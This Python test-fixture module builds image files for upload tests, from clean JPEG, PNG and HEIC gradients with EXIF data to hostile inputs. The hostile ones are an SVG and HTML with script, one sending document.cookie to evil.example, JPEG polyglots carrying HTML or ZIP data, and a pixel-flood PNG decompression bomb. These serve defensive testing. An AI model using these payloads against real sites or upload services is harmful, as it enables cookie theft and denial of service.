"""Image bytes for upload tests: real photos-to-be, files pretending to be photos, bombs."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

import numpy as np
import pillow_heif
from PIL import Image

pillow_heif.register_heif_opener()

GPS_IFD, ORIENTATION, MAKE = 0x8825, 0x0112, 0x010F


def gradient(width: int = 64, height: int = 48) -> Image.Image:
    """Not flat, so orientation and resizing are visible in the pixels."""
    x = np.linspace(0, 255, width, dtype=np.uint8)[None, :].repeat(height, 0)
    y = np.linspace(0, 255, height, dtype=np.uint8)[:, None].repeat(width, 1)
    return Image.fromarray(np.dstack([x, y, np.full_like(x, 90)]), "RGB")


def jpeg(width: int = 64, height: int = 48, *, gps: bool = False, orientation: int | None = None,
         comment: bytes | None = None) -> bytes:
    image = gradient(width, height)
    exif = Image.Exif()
    exif[MAKE] = "PhoneCam"
    if orientation:
        exif[ORIENTATION] = orientation
    if gps:
        gps_ifd = exif.get_ifd(GPS_IFD)
        gps_ifd.update({1: "N", 2: (30.0, 15.0, 7.5), 3: "E", 4: (120.0, 9.0, 3.25)})
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif, quality=90, **({"comment": comment} if comment else {}))
    return out.getvalue()


def png(width: int = 64, height: int = 48) -> bytes:
    out = io.BytesIO()
    gradient(width, height).save(out, "PNG")
    return out.getvalue()


def heic(width: int = 64, height: int = 48, *, orientation: int | None = None) -> bytes:
    """With ``orientation`` the encoder writes it as the container's rotation (irot), like a phone."""
    exif = Image.Exif()
    if orientation:
        exif[ORIENTATION] = orientation
    out = io.BytesIO()
    gradient(width, height).save(out, "HEIF", quality=80, exif=exif.tobytes())
    return out.getvalue()


SVG = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
       b'<script>alert(document.domain)</script><rect width="10" height="10"/></svg>')
HTML = b"<html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"


def zip_archive() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("payload.html", HTML)
    return out.getvalue()


def jpeg_then_html() -> bytes:
    return jpeg() + HTML


def jpeg_then_zip() -> bytes:
    """Opens as a JPEG in a viewer and as an archive in unzip (the central directory is at the end)."""
    return jpeg() + zip_archive()


def jpeg_with_zip_in_comment() -> bytes:
    return jpeg(comment=zip_archive())


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)


def pixel_flood_png(side: int = 30_000) -> bytes:
    """A side x side 1-bit PNG of zeros: a few tens of KB on disk, ~900 MP once decoded."""
    row = b"\x00" * (1 + (side + 7) // 8)  # filter byte + packed bits
    packer = zlib.compressobj(9)
    body = b"".join(packer.compress(row) for _ in range(side)) + packer.flush()
    header = struct.pack(">IIBBBBB", side, side, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")
